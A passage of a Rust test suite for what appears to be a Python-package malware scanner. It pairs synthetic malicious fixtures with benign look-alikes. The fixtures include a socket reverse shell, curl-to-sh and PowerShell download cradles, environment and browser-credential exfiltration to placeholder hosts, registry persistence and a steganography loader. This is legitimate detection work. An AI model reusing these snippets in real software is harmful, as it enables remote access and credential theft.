//! Every rule outside the `archive/*` family that install_hooks.rs does not
//! already cover, on small synthetic packages written here: a positive case
//! imitating the malicious pattern (rule, severity, line) and a negative case
//! with the closest benign look-alike. Also the role and scope logic: the same
//! call in setup.py, at module top level, inside a function, under a main
//! guard and in tests. Tests marked `#[ignore]` state behaviour believed to be
//! right that the rules do not have yet; the reason says what happens instead.
//!
//! The project is called `acme` (not `demo`: `demo/` is a documentation folder
//! name and would weigh every finding down two levels).

mod support;

use support::*;

use airlock_inspect::{Report, Severity};
use Severity::{Critical, High, Info, Low, Medium};

// ---------------------------------------------------------------- role and scope

/// The same calls at module top level (lines 2-4), in a function (6-8) and
/// under a main guard (10-12).
const EVERY_SCOPE: &str = r#"import os, urllib.request
os.system("id")
exec(source)
urllib.request.urlopen("https://example.com/ping")
def helper():
    os.system("id")
    exec(source)
    urllib.request.urlopen("https://example.com/ping")
if __name__ == "__main__":
    os.system("id")
    exec(source)
    urllib.request.urlopen("https://example.com/ping")
    helper()
"#;

#[test]
fn in_setup_py_every_scope_runs_at_build_time_even_the_main_guard() {
    let r = setup_py(EVERY_SCOPE);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, Medium), (6, Medium), (10, Medium)]);
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(4, High), (8, High), (12, High)]);
    assert_eq!(hits(&r, "payload/exec-dynamic", SETUP), [(3, Medium), (7, Medium), (11, Medium)]);
}

#[test]
fn in_a_package_module_only_top_level_code_runs_on_import() {
    for (r, file) in [(module(EVERY_SCOPE), MOD), (sdist(&[("acme/__init__.py", ""), ("acme/mod.py", EVERY_SCOPE)]), "acme-1.0/acme/mod.py")] {
        assert_eq!(hits(&r, "access/process-on-install", file), [(2, Medium)], "{file}");
        assert_eq!(hits(&r, "access/network-on-install", file), [(4, High)], "{file}");
        assert_eq!(hits(&r, "payload/exec-dynamic", file), [(3, Medium), (7, Low), (11, Low)], "{file}");
    }
}

#[test]
fn code_under_tests_never_runs_on_install_and_weighs_two_levels_less() {
    for (r, file) in [
        (wheel(&[("acme/tests/test_mod.py", EVERY_SCOPE)]), "acme/tests/test_mod.py"),
        (sdist(&[("tests/helpers.py", EVERY_SCOPE)]), "acme-1.0/tests/helpers.py"),
        (wheel(&[("acme/conftest.py", EVERY_SCOPE)]), "acme/conftest.py"),
    ] {
        none(&r, "access/process-on-install");
        none(&r, "access/network-on-install");
        assert_eq!(hits(&r, "payload/exec-dynamic", file), [(3, Info), (7, Info), (11, Info)], "{file}");
    }
}

#[test]
fn scripts_an_sdist_neither_installs_nor_runs_are_not_install_time_code() {
    let r = sdist(&[("acme/__init__.py", ""), ("tools/release.py", EVERY_SCOPE)]);
    none(&r, "access/process-on-install");
    none(&r, "access/network-on-install");
    assert_eq!(hits(&r, "payload/exec-dynamic", "acme-1.0/tools/release.py"), [(3, Low), (7, Low), (11, Low)]);
}

#[test]
fn a_top_level_sitecustomize_runs_at_every_start_in_every_scope() {
    let r = wheel(&[("sitecustomize.py", EVERY_SCOPE)]);
    assert_eq!(hits(&r, "install-hook/sitecustomize", "sitecustomize.py"), [(0, High)]);
    assert_eq!(hits(&r, "access/process-on-install", "sitecustomize.py"), [(2, Medium), (6, Medium), (10, Medium)]);
}

#[test]
fn a_sitecustomize_module_inside_a_package_is_an_ordinary_module() {
    let r = wheel(&[("acme/__init__.py", ""), ("acme/sitecustomize.py", EVERY_SCOPE)]);
    assert_eq!(hits(&r, "access/process-on-install", "acme/sitecustomize.py"), [(2, Medium)]);
}

#[test]
fn a_project_whose_package_is_named_demo_is_not_documentation() {
    let metadata = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: Demo tools\nAuthor: Ann\n";
    let init = "import base64, os\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('id')\n";
    let r = wheel_named("demo-1.0", metadata, &[("demo/__init__.py", init)]);
    assert_eq!(hits(&r, "payload/exec-decoded", "demo/__init__.py"), [(2, Critical)]);
    assert_eq!(hits(&r, "access/process-on-install", "demo/__init__.py"), [(3, Medium)]);
}

#[test]
fn a_docs_folder_inside_a_package_ships_with_it_and_one_at_the_top_does_not() {
    let inside = wheel(&[("acme/__init__.py", ""), ("acme/docs/__init__.py", ""), ("acme/docs/build.py", "import os\nos.system('id')\n")]);
    assert_eq!(hits(&inside, "access/process-on-install", "acme/docs/build.py"), [(2, Medium)]);
    let top = sdist(&[("acme/__init__.py", ""), ("docs/conf.py", "import os\nos.system('id')\nexec(source)\n")]);
    none(&top, "access/process-on-install");
    assert_eq!(hits(&top, "payload/exec-dynamic", "acme-1.0/docs/conf.py"), [(3, Info)]);
}

#[test]
fn exec_of_a_decoded_payload_is_critical_in_every_scope_and_medium_in_tests() {
    let src = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n";
    assert_eq!(hits(&setup_py(src), "payload/exec-decoded", SETUP), [(2, Critical), (4, Critical)]);
    assert_eq!(hits(&module(src), "payload/exec-decoded", MOD), [(2, Critical), (4, Critical)]);
    let tests = wheel(&[("tests/test_payload.py", src)]);
    assert_eq!(hits(&tests, "payload/exec-decoded", "tests/test_payload.py"), [(2, Medium), (4, Medium)]);
}

// ---------------------------------------------------------------- payload/exec-decoded

#[test]
fn exec_of_base64_decoded_data_in_setup_py_is_critical() {
    let r = setup_py("import base64\nfrom setuptools import setup\nexec(base64.b64decode(\"cHJpbnQoJ2J1aWxkJyk=\"))\nsetup(name=\"acme\")\n");
    assert_eq!(hits(&r, "payload/exec-decoded", SETUP), [(3, Critical)]);
    assert_eq!(r.max_severity, Critical);
}

#[test]
fn decoding_reaches_exec_through_variables_helpers_and_every_codec() {
    let r = module(
        r#"import base64, zlib, marshal, codecs
exec("tnirp"[::-1])
exec(zlib.decompress(BLOB))
exec(marshal.loads(CODE))
exec(codecs.decode("cevag(1)", "rot13"))
eval("".join(chr(c) for c in CODES))
exec(bytes.fromhex("7072696e74283129"))
def b64d(x):
    return base64.b64decode(x)
exec(b64d(STAGE))
payload = base64.b64decode(STAGE)
code = payload.decode()
exec(code)
"#,
    );
    let lines: Vec<u32> = hits(&r, "payload/exec-decoded", MOD).iter().filter(|h| h.1 == Critical).map(|h| h.0).collect();
    assert_eq!(lines, [2, 3, 4, 5, 6, 7, 10, 13]);
}

#[test]
fn a_shell_command_decoded_before_it_runs_is_exec_decoded() {
    let r = module("import base64, os\ndef run():\n    os.system(base64.b64decode('aWQ=').decode())\n");
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
}

#[test]
fn exec_of_a_local_version_file_in_setup_py_is_neither_decoded_nor_dynamic() {
    let r = setup_py(
        r#"import base64, os
from setuptools import setup
here = os.path.abspath(os.path.dirname(__file__))
exec(open('acme/version.py').read())
about = {}
with open(os.path.join(here, "acme", "__about__.py")) as f:
    exec(f.read(), about)
exec(compile(open("acme/_v.py").read(), "acme/_v.py", "exec"))
ICON = base64.b64decode("iVBORw0KGgo=")
setup(name="acme")
"#,
    );
    none(&r, "payload/exec-decoded");
    none(&r, "payload/exec-dynamic");
    none(&r, "payload/exec-hidden");
}

#[test]
fn decoding_data_that_is_never_run_is_not_exec_decoded() {
    let r = module(
        r#"import base64, json, zlib
ICON = base64.b64decode(ICON_B64)
CONFIG = json.loads(base64.b64decode(CFG))
def load(blob):
    return zlib.decompress(blob)
exec("print('literal code is not dynamic')")
"#,
    );
    none(&r, "payload/exec-decoded");
    none(&r, "payload/exec-dynamic");
}

// ---------------------------------------------------------------- payload/download-exec

#[test]
fn exec_of_code_fetched_from_the_network_is_critical() {
    let r = module(
        r#"import requests
from urllib.request import urlopen
exec(urlopen("https://example.com/stage2.py").read())
def update():
    exec(requests.get("https://example.com/s.py").text)
"#,
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(3, Critical), (5, Critical)]);
}

#[test]
fn a_dropper_that_downloads_writes_and_starts_an_exe_is_high() {
    let r = module(
        r#"import os, subprocess, tempfile, urllib.request
def update():
    data = urllib.request.urlopen("https://example.com/update.bin").read()
    path = os.path.join(tempfile.gettempdir(), "update.exe")
    with open(path, "wb") as f:
        f.write(data)
    subprocess.Popen([path])
"#,
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(7, High)]);
}

#[test]
fn starting_the_very_file_a_download_was_written_to_is_a_dropper() {
    let r = module(
        r#"import os, random, requests, subprocess, tempfile
def init(url):
    response = requests.get(url)
    path = os.path.join(tempfile.gettempdir(), str(random.random()), os.path.basename(url))
    with open(path, "wb") as out:
        out.write(response.content)
    subprocess.run([path])
"#,
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(7, High)]);
}

#[test]
fn a_download_handed_to_a_tool_as_data_is_not_a_dropper() {
    let r = module(
        r#"import os, requests, subprocess
def fetch_and_unpack(url, target):
    archive = os.path.join(target, "data.tar.gz")
    with open(archive, "wb") as out:
        out.write(requests.get(url).content)
    subprocess.run(["tar", "-xzf", archive, "-C", target], check=True)
def run_tool(url, tool):
    with open(tool + ".log", "wb") as log:
        log.write(requests.get(url).content)
    subprocess.run([tool, "--check"])
"#,
    );
    none(&r, "payload/download-exec");
}

#[test]
fn downloading_data_and_running_unrelated_code_is_not_download_exec() {
    let r = module(
        r#"import os, subprocess, urllib.request
def fetch_index(url):
    return urllib.request.urlopen(url).read()
def run_snippet(code):
    exec(code)
def download_dataset(url, target):
    data = urllib.request.urlopen(url).read()
    with open(os.path.join(target, "train.csv.gz"), "wb") as f:
        f.write(data)
    subprocess.run(["gzip", "-d", os.path.join(target, "train.csv.gz")])
"#,
    );
    none(&r, "payload/download-exec");
    assert_eq!(hits(&r, "payload/exec-dynamic", MOD), [(5, Low)], "a parameter is not the download of another function");
}

#[test]
fn exec_of_a_file_just_downloaded_is_download_exec() {
    let r = module(
        r#"import urllib.request
def update():
    urllib.request.urlretrieve("https://example.com/plugin.py", "/tmp/acme_plugin.py")
    exec(open("/tmp/acme_plugin.py").read())
"#,
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(4, Critical)]);
}

#[test]
fn exec_of_fetched_bytes_saved_to_a_file_is_download_exec() {
    let r = module(
        r#"import os, requests, tempfile
def update():
    path = os.path.join(tempfile.gettempdir(), "acme_stage2.py")
    with open(path, "wb") as f:
        f.write(requests.get("https://example.com/stage2").content)
    exec(open(path).read())
"#,
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(6, Critical)]);
}

#[test]
fn exec_of_a_file_outside_the_project_is_not_a_version_read() {
    let r = module("import os\ndef load_plugin():\n    exec(open('/tmp/acme_plugin.py').read())\n    exec(open(os.path.expanduser('~/.acme/rc.py')).read())\n");
    assert_eq!(hits(&r, "payload/exec-dynamic", MOD), [(3, Low), (4, Low)]);
    none(&r, "payload/download-exec");
}

// ---------------------------------------------------------------- payload/exec-hidden

#[test]
fn exec_reached_through_a_computed_builtin_name_is_critical() {
    let r = module(
        r#"payload = "print(1)"
getattr(__builtins__, "ex" + "ec")(payload)
getattr(__import__("builtins"), "".join([chr(101), chr(118), chr(97), chr(108)]))("1")
globals()["ev" + "al"]("1")
f = getattr(__builtins__, "ev" + "al")
"#,
    );
    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(2, Critical), (3, Critical), (4, Critical), (5, Critical)]);
}

#[test]
fn os_system_reached_through_dunder_import_in_setup_py_is_exec_hidden() {
    let r = setup_py("from setuptools import setup\n__import__('os').system('id')\nsetup()\n");
    assert_eq!(hits(&r, "payload/exec-hidden", SETUP), [(2, Critical)]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, Medium)]);
}

#[test]
fn builtins_named_plainly_or_looked_up_by_a_variable_are_not_exec_hidden() {
    let r = module(
        r#"import builtins
fn = getattr(builtins, name)
PRINT = getattr(builtins, "print")
def handle(self, kind, event):
    return getattr(self, "handle_" + kind)(event)
def calc(expr):
    return builtins.eval(expr)
"#,
    );
    none(&r, "payload/exec-hidden");
    assert_eq!(hits(&r, "payload/exec-dynamic", MOD), [(7, Low)], "builtins.eval names its callee plainly");
}

#[test]
fn calling_a_builtin_looked_up_by_a_plain_variable_is_not_exec_hidden() {
    let r = module("import builtins\ndef convert(type_name, value):\n    return getattr(builtins, type_name)(value)\n");
    none(&r, "payload/exec-hidden");
}

// ---------------------------------------------------------------- payload/exec-dynamic

#[test]
fn re_compile_and_methods_named_compile_are_not_the_compile_builtin() {
    let r = module(
        r#"import re
from re import compile
PATTERN = re.compile(source)
WORDS = compile("|".join(words))
# the builtin compile() is not used here
class Query:
    def build(self, text):
        return self.compile(text)
"#,
    );
    none(&r, "payload/exec-dynamic");
    none(&r, "payload/exec-decoded");
}

// ---------------------------------------------------------------- payload/disguised-module

#[test]
fn zipimport_of_a_file_named_like_an_image_is_critical() {
    let r = module("import zipimport\nzipimport.zipimporter('acme/assets/logo.png').load_module('logo')\n");
    assert_eq!(hits(&r, "payload/disguised-module", MOD), [(2, Critical)]);
}

#[test]
fn zipimport_of_a_zip_archive_is_not_disguised() {
    let r = module("import os, zipimport\nVENDOR = zipimport.zipimporter(os.path.join(HERE, 'vendor', 'deps.zip'))\nz = zipimport.zipimporter(path)\n");
    none(&r, "payload/disguised-module");
}

// ---------------------------------------------------------------- payload/reverse-shell

#[test]
fn a_shell_wired_to_a_socket_is_a_reverse_shell() {
    let r = module(
        r#"import os, socket, subprocess
def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("91.92.93.94", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
"#,
    );
    assert_eq!(hits(&r, "payload/reverse-shell", MOD), [(7, Critical)]);
}

#[test]
fn a_daemon_redirecting_to_devnull_and_a_shell_without_dup2_are_not_reverse_shells() {
    let daemon = module(
        r#"import os, subprocess
def daemonize():
    fd = os.open(os.devnull, os.O_RDWR)
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    subprocess.Popen(["acme-worker", "--foreground"])
"#,
    );
    none(&daemon, "payload/reverse-shell");
    let shell = module("import subprocess\ndef run_script(path):\n    return subprocess.call(['/bin/bash', path])\n");
    none(&shell, "payload/reverse-shell");
}

#[test]
fn dup2_to_devnull_and_an_unrelated_shell_script_runner_are_not_a_reverse_shell() {
    let r = module(
        r#"import os, subprocess
def daemonize():
    fd = os.open(os.devnull, os.O_RDWR)
    os.dup2(fd, 0)
    os.dup2(fd, 1)
def run_script(path):
    return subprocess.call(["/bin/bash", path])
"#,
    );
    none(&r, "payload/reverse-shell");
}

// ---------------------------------------------------------------- payload/shell-download

#[test]
fn curl_piped_to_sh_from_setup_py_is_critical() {
    let r = setup_py("import os\nfrom setuptools import setup\nos.system('curl -s https://example.com/i.sh | sh')\nsetup()\n");
    assert_eq!(hits(&r, "payload/shell-download", SETUP), [(3, Critical)]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, High)]);
}

#[test]
fn a_powershell_download_cradle_is_shell_download() {
    let r = module(
        "import subprocess\ndef update():\n    subprocess.Popen(['powershell', '-Command', \"IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')\"])\n",
    );
    assert_eq!(hits(&r, "payload/shell-download", MOD), [(3, Critical)]);
}

#[test]
fn shell_pipelines_and_tool_version_checks_are_not_shell_download() {
    let r = module(
        r#"import subprocess
def files():
    return subprocess.run("git ls-files | sort", shell=True, capture_output=True)
def have_curl():
    return subprocess.run(["curl", "--version"]).returncode == 0
"#,
    );
    none(&r, "payload/shell-download");
}

#[test]
fn curl_saving_a_data_file_is_not_shell_download() {
    let r = module("import subprocess\ndef fetch():\n    subprocess.check_call(['curl', '-sSL', '-o', 'data.json', 'https://example.com/data.json'])\n");
    none(&r, "payload/shell-download");
}

#[test]
fn piping_to_sha256sum_is_not_piping_to_sh() {
    let r = module("import subprocess\ndef digest():\n    return subprocess.run('tar cf - acme | sha256sum', shell=True)\n");
    none(&r, "payload/shell-download");
}

// ---------------------------------------------------------------- access/process-on-install

#[test]
fn a_subprocess_call_to_git_describe_in_setup_py_is_low_not_high() {
    let r = setup_py(
        "import subprocess\nfrom setuptools import setup\nversion = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\nsetup(version=version)\n",
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, Low)]);
}

#[test]
fn an_unknown_command_in_setup_py_is_medium_and_a_suspicious_one_high() {
    let r = setup_py(
        "import os, subprocess\nfrom setuptools import setup\nos.system('acme-prebuild')\nsubprocess.call('cmd.exe /c whoami', shell=True)\nsetup()\n",
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, Medium), (4, High)]);
}

#[test]
fn a_process_started_by_an_install_command_override_is_high() {
    let r = setup_py(
        r#"import subprocess
from setuptools import setup
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call(["acme-postinstall"])
setup(cmdclass={"install": PostInstall})
"#,
    );
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
    assert_eq!(hits(&r, "install-hook/command-override", SETUP), [(4, Medium)]);
}

#[test]
fn git_submodule_sync_in_setup_py_is_a_build_step() {
    let r = setup_py("import subprocess\nsubprocess.check_call(['git', 'submodule', 'sync', '--recursive'])\n");
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, Low)]);
}

// ---------------------------------------------------------------- access/network-on-install

#[test]
fn network_use_at_import_or_build_is_high() {
    let m = module("import socket\nCONN = socket.create_connection(('updates.example.com', 443))\n");
    assert_eq!(hits(&m, "access/network-on-install", MOD), [(2, High)]);
    let s = setup_py("import requests\nfrom setuptools import setup\nrequests.get('https://example.com/installed?pkg=acme')\nsetup()\n");
    assert_eq!(hits(&s, "access/network-on-install", SETUP), [(3, High)]);
}

#[test]
fn clients_created_at_import_and_requests_made_in_functions_are_not_network_on_install() {
    let r = module(
        r#"import httpx, requests
SESSION = requests.Session()
TIMEOUT = httpx.Timeout(10.0)
def latest_version():
    return SESSION.get("https://index.example.com/pypi/acme/json").json()["info"]["version"]
"#,
    );
    none(&r, "access/network-on-install");
}

// ---------------------------------------------------------------- access/env-sweep

#[test]
fn the_whole_environment_read_at_import_is_medium_and_high_when_the_file_sends() {
    let read = module("import os\nENV = dict(os.environ)\nSNAPSHOT = os.environ.copy()\n");
    assert_eq!(hits(&read, "access/env-sweep", MOD), [(2, Medium), (3, Medium)]);
    let sent = module("import os, requests\nrequests.post('https://collector.example.com/e', json=dict(os.environ))\n");
    assert_eq!(hits(&sent, "access/env-sweep", MOD), [(2, High)]);
}

#[test]
fn reading_one_variable_or_copying_the_environment_for_a_child_process_is_not_a_sweep() {
    let r = module(
        r#"import os, subprocess
HOME = os.environ.get("HOME")
DEBUG = os.getenv("ACME_DEBUG") == "1"
def build(cmd):
    env = os.environ.copy()
    env["LC_ALL"] = "C"
    return subprocess.run(cmd, env=env)
"#,
    );
    none(&r, "access/env-sweep");
}

// ---------------------------------------------------------------- access/exfil-endpoint

#[test]
fn a_discord_webhook_is_high_and_a_telegram_bot_api_medium() {
    let r = module("WEBHOOK = 'https://discord.com/api/webhooks/1234/abcd'\nAPI = 'https://api.telegram.org/bot'\n");
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, High), (2, Medium)]);
    let docs = wheel(&[("docs/conf.py", "WEBHOOK = 'https://discord.com/api/webhooks/1234/abcd'\n")]);
    assert_eq!(hits(&docs, "access/exfil-endpoint", "docs/conf.py"), [(1, Low)], "docs weigh two levels less");
}

#[test]
fn a_file_drop_host_counts_as_a_host_not_inside_a_module_path() {
    let r = module("UP = 'https://transfer.sh/upload'\nTUNNEL = 'http://x1y2.eu.ngrok.io:8080'\nBOT = 'https://api.telegram.org/bot123456789:AAE'\n");
    // A file-drop host named alone is medium: downloaders and gallery tools name them too.
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, Medium), (2, High), (3, Medium)]);
    let r = module("ENGINES = ['acme.distributed.weight_transfer.sharded_engine', 'acme.mytransfer.shim']\n");
    none(&r, "access/exfil-endpoint");
}

#[test]
fn a_discord_invite_link_is_not_an_exfil_endpoint() {
    let r = module("import requests\nCOMMUNITY = 'https://discord.gg/acme'\nDOCS = 'https://acme.example.com/webhooks.html'\n");
    none(&r, "access/exfil-endpoint");
}

// ---------------------------------------------------------------- access/raw-ip-url

#[test]
fn a_url_or_connection_to_a_public_raw_ip_is_high() {
    let r = module(
        "import socket, requests\nURL = 'http://91.92.93.94:8080/upload'\ndef beacon():\n    s = socket.socket()\n    s.connect(('91.92.93.95', 443))\n    requests.post(URL, data=b'x')\n",
    );
    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(2, High), (5, High)]);
}

#[test]
fn private_addresses_and_the_udp_local_address_trick_are_exempt() {
    let r = module(
        r#"import socket
LOCAL = "http://127.0.0.1:8000/"
LAN = "http://192.168.1.10/admin"
METADATA = "http://100.100.100.200/latest/meta-data/"
CLUSTER = "http://10.0.0.5:9200"
def local_ip():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("8.8.8.8", 80))
    return s.getsockname()[0]
"#,
    );
    none(&r, "access/raw-ip-url");
}

// ---------------------------------------------------------------- access/credentials

#[test]
fn browser_logins_are_high_and_cloud_credential_files_medium_in_a_file_that_sends() {
    let r = module(
        r#"import os, requests
CHROME = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
AWS = os.path.expanduser("~/.aws/credentials")
def upload(path):
    requests.post("https://collector.example.net/u", data=open(path, "rb").read())
"#,
    );
    assert_eq!(hits(&r, "access/credentials", MOD), [(2, High), (3, Medium)]);
}

#[test]
fn browser_logins_and_cloud_credential_files_named_in_a_file_that_sends_nothing_are_low() {
    let r = module(
        r#"import os
CHROME = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
AWS = os.path.expanduser("~/.aws/credentials")
"#,
    );
    assert_eq!(hits(&r, "access/credentials", MOD), [(2, Low), (3, Low)]);
}

#[test]
fn ssh_known_hosts_public_keys_and_cloud_config_are_not_credentials() {
    let r = module("import os\nKNOWN = os.path.expanduser('~/.ssh/known_hosts')\nCONFIG = os.path.expanduser('~/.aws/config')\nPUB = os.path.expanduser('~/.ssh/id_ed25519.pub')\n");
    none(&r, "access/credentials");
}

#[test]
fn an_ed25519_ssh_private_key_is_a_credential_file() {
    let r = module("import os, socket\nKEY = os.path.expanduser('~/.ssh/id_ed25519')\ndef send(s, data):\n    s.sendall(data)\n");
    assert_eq!(hits(&r, "access/credentials", MOD), [(2, Medium)]);
}

// ---------------------------------------------------------------- access/persistence

#[test]
fn a_registry_run_key_and_a_launch_agent_written_at_import_are_persistence() {
    let r = module(
        r#"import os, winreg
RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"
AGENT = os.path.expanduser("~/Library/LaunchAgents/com.acme.updater.plist")
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "acme", 0, winreg.REG_SZ, RUN + " acme.exe")
open(AGENT, "w").write(PLIST)
"#,
    );
    assert_eq!(hits(&r, "access/persistence", MOD), [(2, High), (3, High)]);
    let named = module("import os\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n");
    assert_eq!(hits(&named, "access/persistence", MOD), [(2, Low)], "a mention alone is information");
    let tests = wheel(&[("tests/test_autostart.py", "import os\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n")]);
    assert_eq!(hits(&tests, "access/persistence", "tests/test_autostart.py"), [(2, Info)]);
}

#[test]
fn reading_the_windows_version_key_is_not_persistence() {
    let r = module(
        "import winreg, os\nKEY = r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion'\nUNINSTALL = r'Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall'\n",
    );
    none(&r, "access/persistence");
}

// ---------------------------------------------------------------- access/surveillance

#[test]
fn keyboard_clipboard_and_screen_capture_imports_are_medium() {
    let r = module("from pynput import keyboard\nimport pyperclip\nfrom PIL import ImageGrab\n");
    assert_eq!(hits(&r, "access/surveillance", MOD), [(1, Medium), (2, Medium), (3, Medium)]);
    let tests = wheel(&[("tests/test_clip.py", "import pyperclip\n")]);
    assert_eq!(hits(&tests, "access/surveillance", "tests/test_clip.py"), [(1, Info)]);
}

#[test]
fn a_module_whose_name_only_starts_like_a_capture_library_is_not_surveillance() {
    let r = module("import keyboard_layouts\nfrom PIL import Image\nimport mssql_helpers\n");
    none(&r, "access/surveillance");
}

#[test]
fn a_relative_import_of_the_package_own_keyboard_module_is_not_surveillance() {
    let r = module("from .keyboard import KeyMap\nimport os\nHOME = os.environ.get('HOME')\n");
    none(&r, "access/surveillance");
}

#[test]
fn keyboard_imported_in_a_list_of_modules_is_surveillance() {
    let r = module("import sys, keyboard\nkeyboard.on_press(print)\n");
    assert_eq!(hits(&r, "access/surveillance", MOD), [(1, Medium)]);
}

// ---------------------------------------------------------------- access/hardcoded-bot-token

/// Invented tokens of the right shapes (Telegram `id:AA…35`, Discord `M….6….27+`).
const TELEGRAM_TOKEN: &str = "123456789:AAFakeTokenWrittenForAirlockTests00";
const DISCORD_TOKEN: &str = "MTk4NjIyNDgzNDcxOTI1MjQ4.Gh7a2b.fakefakefakefakefakefakefake12";

#[test]
fn telegram_and_discord_bot_tokens_in_code_are_high() {
    let r = module(&format!("import requests\nTG = \"{TELEGRAM_TOKEN}\"\nDISCORD = \"{DISCORD_TOKEN}\"\n"));
    assert_eq!(hits(&r, "access/hardcoded-bot-token", MOD), [(2, High), (3, High)]);
}

#[test]
fn a_jwt_and_a_chat_id_are_not_bot_tokens() {
    let r = module(
        "import requests\nSAMPLE_JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLXdyaXR0ZW4tZm9yLXRlc3Rz'\nCHAT = '-1001234567890'\nBUILD = '20240101:AAAA'\n",
    );
    none(&r, "access/hardcoded-bot-token");
}

#[test]
fn a_discord_token_alone_in_a_config_module_is_found() {
    let r = module(&format!("BOT_TOKEN = \"{DISCORD_TOKEN}\"\n"));
    assert_eq!(hits(&r, "access/hardcoded-bot-token", MOD), [(1, High)]);
}

// ---------------------------------------------------------------- code kept in strings

#[test]
fn python_code_kept_in_a_string_is_analysed_at_its_own_line() {
    let r = module(
        r#"import os
HOOK = """
import os
import subprocess
subprocess.call("curl -s https://example.com/x.sh | sh", shell=True)
def unused():
    pass
"""
with open(os.path.expanduser("~/.acme_hook.py"), "w") as f:
    f.write(HOOK)
"#,
    );
    assert_eq!(hits(&r, "payload/shell-download", MOD), [(5, Critical)]);
    assert!(r.findings.iter().any(|f| f.rule == "payload/shell-download" && f.message.contains("in Python code kept in a string")));
}

#[test]
fn python_code_hidden_in_a_base64_string_is_decoded_and_analysed() {
    let stage2 = "import requests, subprocess\nsubprocess.Popen(requests.get('https://203.0.113.9/p').text, shell=True)\n".repeat(3);
    let r = module(&format!(
        "import base64, os\nSTAGE = '{}'\nopen(os.path.join(os.getcwd(), 'stage.py'), 'w').write(base64.b64decode(STAGE).decode())\n",
        b64(stage2.as_bytes())
    ));
    let hidden: Vec<_> = r.findings.iter().filter(|f| f.message.contains("hidden in an encoded string")).collect();
    assert!(!hidden.is_empty(), "{:#?}", r.findings);
    assert!(hidden.iter().all(|f| f.line == Some(2) && f.file.as_deref() == Some(MOD)), "{hidden:#?}");
    assert!(hidden.iter().any(|f| f.severity >= High), "{hidden:#?}");
}

#[test]
fn an_encoded_blob_of_data_is_not_read_as_code() {
    let r = module(&format!("DATA = '{}'\n", b64(&noise(1500))));
    assert!(r.findings.iter().all(|f| !f.message.contains("hidden in an encoded string")), "{:#?}", r.findings);
    let text = b64("Lorem ipsum dolor sit amet, import nothing, define nothing. ".repeat(8).as_bytes());
    let r = module(&format!("NOTICE = '{text}'\n"));
    assert!(r.findings.iter().all(|f| !f.message.contains("hidden in an encoded string")), "{:#?}", r.findings);
}

// ---------------------------------------------------------------- roles: example folders

#[test]
fn a_demo_folder_inside_a_package_is_auxiliary_unless_something_imports_it() {
    let demo = "import os\nos.system('curl -s https://example.com/x -o /tmp/x')\n";
    let at = |r: &Report, path: &str| hits(r, "access/process-on-install", path);
    let alone = wheel(&[("acme/__init__.py", ""), ("acme/shell/__init__.py", ""), ("acme/shell/demos/link.py", demo)]);
    assert_eq!(at(&alone, "acme/shell/demos/link.py"), [], "a demo nobody imports does not run on import: {:#?}", alone.findings);
    let tested = wheel(&[
        ("acme/__init__.py", ""),
        ("acme/tests/test_demos.py", "import acme.shell.demos.link\n"),
        ("acme/shell/__init__.py", ""),
        ("acme/shell/demos/link.py", demo),
    ]);
    assert_eq!(at(&tested, "acme/shell/demos/link.py"), [], "a test importing the demo does not make it run on import");
    let imported = wheel(&[("acme/__init__.py", "from .shell.demos import link\n"), ("acme/shell/__init__.py", ""), ("acme/shell/demos/link.py", demo)]);
    assert_eq!(at(&imported, "acme/shell/demos/link.py"), [(2, High)], "an imported demo is code the package runs");
    let by_name = wheel(&[("acme/__init__.py", "import importlib\nimportlib.import_module('acme.examples.boot')\n"), ("acme/examples/boot.py", demo)]);
    assert_eq!(at(&by_name, "acme/examples/boot.py"), [(2, High)], "import_module by name counts too");
}

// ---------------------------------------------------------------- hiding/steganography

#[test]
fn code_read_out_of_image_pixels_or_bytes_is_a_steganography_loader() {
    let pixels = module(
        r#"from PIL import Image
def load():
    img = Image.open(__file__.replace("mod.py", "logo.png"))
    bits = "".join(str(p[0] & 1) for p in img.getdata())
    data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
    exec(data.split(b"\0")[0])
load()
